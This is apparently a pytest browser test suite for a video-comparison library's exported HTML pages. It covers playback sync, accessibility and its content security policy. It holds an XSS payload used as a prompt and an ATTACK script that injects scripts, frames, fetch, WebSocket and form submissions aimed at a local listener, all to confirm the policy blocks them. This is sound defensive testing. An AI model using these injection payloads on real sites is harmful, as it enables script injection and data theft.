"""An exported page, opened from the disk as a stranger opens it: it plays, and asks nobody for anything."""

import contextlib
import io
import re
import socket
from fractions import Fraction

import av
import numpy as np
import pytest
from PIL import Image

import refvideo_nb
from refvideo_nb.core.job import State
from refvideo_nb.engine.wish import Wish
from refvideo_nb.notebook.job import Job
from refvideo_nb.notebook.session import Session
from refvideo_nb.settings import Secret, Settings
from refvideo_nb.simulator import Simulator

pytestmark = pytest.mark.browser

SKY = (40, 120, 220)
HOSTILE = '@sky </script><script>window.hit=1</script><img src="http://127.0.0.1:9/x" onerror="window.hit=1">'
REFUSED = "@sky asks for what is refused"
# What a page does that it should not, told by the browser itself.
WATCH = """window.blocked = [];
document.addEventListener("securitypolicyviolation", (e) => window.blocked.push(e.effectiveDirective));"""


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """Two runs and one that failed; nine films of nobody in particular; one of them alone."""
    folder = tmp_path_factory.mktemp("pages")
    sky = Image.new("RGB", (640, 360), SKY)
    with Simulator(seconds=0.1) as simulator:
        settings = Settings(
            key=Secret(simulator.api_key),
            base_url=simulator.base_url,
            home=folder / "home",
            poll_interval=0.05,
            poll_max=0.2,
        )
        with contextlib.closing(Session(settings)) as session:

            def made(prompt, seed):
                wish = Wish(
                    prompt=prompt,
                    model="bytedance/seedance-2.0-fast",
                    references={"sky": sky},
                    duration=4,
                    resolution="480p",
                    seed=seed,
                )
                record, _ = session.submit(session.draft(wish))
                return Job(session, record.id)

            runs = [made(HOSTILE, seed).wait(60) for seed in (7, 8)]
            simulator.inject("job:failed")
            failed = made(REFUSED, 9)
            with contextlib.suppress(refvideo_nb.RefVideoError):
                failed.wait(60)
            assert failed.record.state is State.FAILED
            refvideo_nb.export([*runs, failed], folder / "runs.html")
    films = [film(folder / f"film {n}.mp4", 1 + n / 2, 24 + n % 2 * 6) for n in range(9)]
    refvideo_nb.export(refvideo_nb.compare(*films, references=[sky], title="Nine films"), folder / "nine.html")
    refvideo_nb.export(refvideo_nb.compare(films[4]), folder / "one.html")
    return folder


def film(path, seconds, fps):
    """Every frame is grey, and lighter than the one before."""
    with av.open(str(path), "w") as target:
        track = target.add_stream("libx264", rate=fps)
        track.width, track.height, track.pix_fmt = 320, 180, "yuv420p"
        count = round(seconds * fps)
        for n in range(count):
            frame = av.VideoFrame.from_ndarray(np.full((180, 320, 3), 30 + 180 * n // count, np.uint8), format="rgb24")
            frame = frame.reformat(format="yuv420p")
            frame.pts, frame.time_base = n, Fraction(1, fps)
            target.mux(track.encode(frame))
        target.mux(track.encode(None))
    return path


@pytest.fixture
def open_page(chromium):
    """``open_page(path, …)``; it is told by whatever it asks for that is not in itself."""
    opened, asked, said = [], [], []
    with contextlib.ExitStack() as ends:

        def open_(path, **options):
            context = chromium.new_context(viewport={"width": 1280, "height": 900}, **options)
            ends.callback(context.close)
            context.set_default_timeout(30_000)
            context.add_init_script(WATCH)
            context.on("request", lambda r: None if r.url.startswith(("data:", "blob:")) else asked.append(r.url))
            page = context.new_page()
            page.on("console", lambda m: said.append(m.text) if m.type in {"error", "warning"} else None)
            page.on("pageerror", lambda e: said.append(str(e)))
            page.goto(path.as_uri())
            opened.append(path.as_uri())
            return page

        yield open_
        assert asked == opened, "a page asks for itself alone"
        assert said == []


def ready(page, count):
    page.wait_for_function(
        "count => { const found = [...document.querySelectorAll('.refvideo-player video')];"
        " return found.length === count && found.every(v => v.readyState >= 2 && !v.seeking) }",
        arg=count,
    )


def times(page):
    return page.evaluate("[...document.querySelectorAll('.refvideo-player video')].map(v => v.currentTime)")


def plays_until(page, seconds):
    page.wait_for_function("least => Number(document.querySelector('.refvideo-scrub').value) >= least", arg=seconds)


def button(page, name):
    return page.get_by_role("button", name=name, exact=True)


def picture(page, path, width=1280, height=1400):
    page.set_viewport_size({"width": width, "height": height})
    page.wait_for_timeout(300)  # the layout settles; nothing is asserted of it
    page.screenshot(path=str(path))


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_runs_play_beside_their_references(pages, open_page, faint, tmp_path, scheme):
    page = open_page(pages / "runs.html", color_scheme=scheme)
    ready(page, 2)
    picture(page, tmp_path / f"runs-{scheme}.png")
    # By the button's accessible name, then by the keyboard alone.
    button(page, "Play").click()
    plays_until(page, 1)
    first, second = times(page)
    assert first == pytest.approx(second, abs=0.15)
    button(page, "Pause").click()
    player = page.locator(".refvideo-player")
    player.focus()
    page.keyboard.press("Home")
    page.keyboard.press("Space")
    plays_until(page, 0.5)
    page.keyboard.press("Space")
    button(page, "Play").wait_for()
    # A reference over the frames: its very colour.
    for key in ("o", *"....."):
        page.keyboard.press(key)
    seen = np.asarray(Image.open(io.BytesIO(page.locator(".refvideo-fit").nth(1).screenshot())).convert("RGB"))
    assert np.abs(seen[seen.shape[0] // 2, seen.shape[1] // 2].astype(int) - SKY).max() <= 3
    page.keyboard.press("Escape")
    # What the player shows is not there twice; what it does not is.
    assert page.locator("article video").filter(visible=True).count() == 0
    assert page.get_by_text("asks for what is refused").filter(visible=True).count() == 1
    assert page.get_by_text("No video:").count() == 1
    page.get_by_text("Request, ids and hashes").first.click()
    assert '"seed": 7' in page.locator("pre").first.inner_text()
    # Words from outside are words.
    assert page.evaluate("window.hit") is None
    assert page.locator(".refvideo-player img[src*='127.0.0.1']").count() == 0
    assert page.evaluate("window.blocked") == []
    hard_to_read, looked = faint(page, "body")
    assert hard_to_read == []
    assert len(looked) > 20
    picture(page, tmp_path / f"runs-{scheme}-600.png", width=600, height=2400)


def test_every_control_has_a_name_and_shows_where_the_keyboard_is(pages, open_page):
    page = open_page(pages / "runs.html")
    ready(page, 2)
    player = page.locator(".refvideo-player")
    told = player.aria_snapshot()
    assert re.findall(r"- (?:button|slider|combobox|img|region)(?! \").*", told) == [], "one has no name"
    for part in ('button "Play"', 'slider "Time"', 'combobox "Speed"', 'button "Compare with @sky"', 'group "View"'):
        assert part in told, part
    visited = []
    while not visited or visited[-1] is not None:
        page.keyboard.press("Tab")
        visited.append(
            page.evaluate(
                """() => {
                    const e = document.activeElement, style = getComputedStyle(e);
                    if (e === document.body) return null;
                    return [e.ariaLabel || e.textContent.trim().slice(0, 40), style.outlineStyle, style.outlineWidth];
                }"""
            )
        )
        assert len(visited) < 60, visited
    found = visited[:-1]
    assert [name for name, style, width in found if style == "none" or width == "0px"] == []
    names = [name for name, *_ in found]
    order = [names.index(n) for n in ("Compare with @sky", "Side by side", "Overlay", "Play", "Loop", "Full screen")]
    assert order == sorted(order), "as one reads it"
    assert names.count("Request, ids and hashes") == 3


def test_nine_films_run_on_one_clock(pages, open_page, tmp_path):
    page = open_page(pages / "nine.html", color_scheme="dark")
    ready(page, 9)
    button(page, "Play").click()
    plays_until(page, 1.2)
    button(page, "Pause").click()
    button(page, "Play").wait_for()
    for seconds in (0.5, 4, 2, 3.1, 0, 1.7, 2.2, 4.9, 0.9, 2.6):
        page.locator(".refvideo-scrub").fill(str(seconds))
        page.wait_for_function(
            """seconds => [...document.querySelectorAll('.refvideo-player video')].every(
                v => !v.seeking && Math.abs(v.currentTime - Math.min(seconds, v.duration)) <= 0.084)""",
            arg=seconds,
        )
    assert page.get_by_text("Nine films").filter(visible=True).count() == 1
    picture(page, tmp_path / "nine-dark.png")


def test_one_film_alone(pages, open_page, tmp_path):
    page = open_page(pages / "one.html")
    ready(page, 1)
    button(page, "Play").click()
    plays_until(page, 0.5)
    assert times(page)[0] > 0.3
    picture(page, tmp_path / "one-light.png", height=1000)


# What an attacker would do whose text had become markup after all.
ATTACK = """async address => {
    const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
    add("script", {textContent: "window.hit = 1"});
    add("script", {src: `http://${address}/x.js`});
    add("img", {src: `http://${address}/x.png`});
    add("video", {src: `http://${address}/x.mp4`});
    add("iframe", {src: `http://${address}/`});
    add("link", {rel: "stylesheet", href: `http://${address}/x.css`});
    add("div", {});
    document.body.lastChild.setAttribute("onclick", "window.hit = 1");
    document.body.lastChild.click();
    await fetch(`http://${address}/x`).catch(() => {});
    try { new WebSocket(`ws://${address}/x`); } catch {}
    add("form", {action: `http://${address}/x`});
    document.body.lastChild.submit();
}"""


def test_nothing_else_runs_on_the_page_and_nothing_gets_out(pages, chromium):
    """Its policy is tried, and so is the attack, on a page that has none."""
    with contextlib.closing(chromium.new_context()) as context, socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        address = "{}:{}".format(*listener.getsockname())
        context.add_init_script(WATCH)
        page = context.new_page()
        page.goto((pages / "one.html").as_uri())
        ready(page, 1)
        page.evaluate(ATTACK, address)
        page.wait_for_function("() => window.blocked.includes('form-action')")
        assert page.evaluate("window.hit") is None
        kinds = {
            "script-src-elem",
            "img-src",
            "media-src",
            "frame-src",
            "style-src-elem",
            "script-src-attr",
            "connect-src",
        }
        assert kinds <= set(page.evaluate("window.blocked"))
        assert sent(listener, 0.5) == b""

        bare = context.new_page()
        bare.set_content("<body></body>")
        bare.evaluate(f"address => void ({ATTACK})(address)", address)
        assert b"HTTP/1.1" in sent(listener, 30)
        assert bare.evaluate("window.hit") == 1


def sent(listener, seconds):
    """What reaches a port, of the first who says something; a browser may connect in advance and say nothing."""
    listener.settimeout(seconds)
    with contextlib.suppress(TimeoutError):
        while True:
            caller, _ = listener.accept()
            with caller:
                caller.settimeout(seconds)
                with contextlib.suppress(TimeoutError, ConnectionError):
                    if data := caller.recv(65536):
                        return data
    return b""


def test_without_scripts_the_clips_are_plain_videos(pages, open_page, tmp_path):
    page = open_page(pages / "runs.html", java_script_enabled=False)
    videos = page.locator("video").filter(visible=True)
    assert videos.count() == 2
    assert [v.get_attribute("controls") for v in videos.all()] == ["", ""]
    assert page.locator("img[alt='Reference @sky']").is_visible()
    assert page.get_by_text("</script><script>window.hit=1").filter(visible=True).count() >= 1
    picture(page, tmp_path / "plain-light.png")
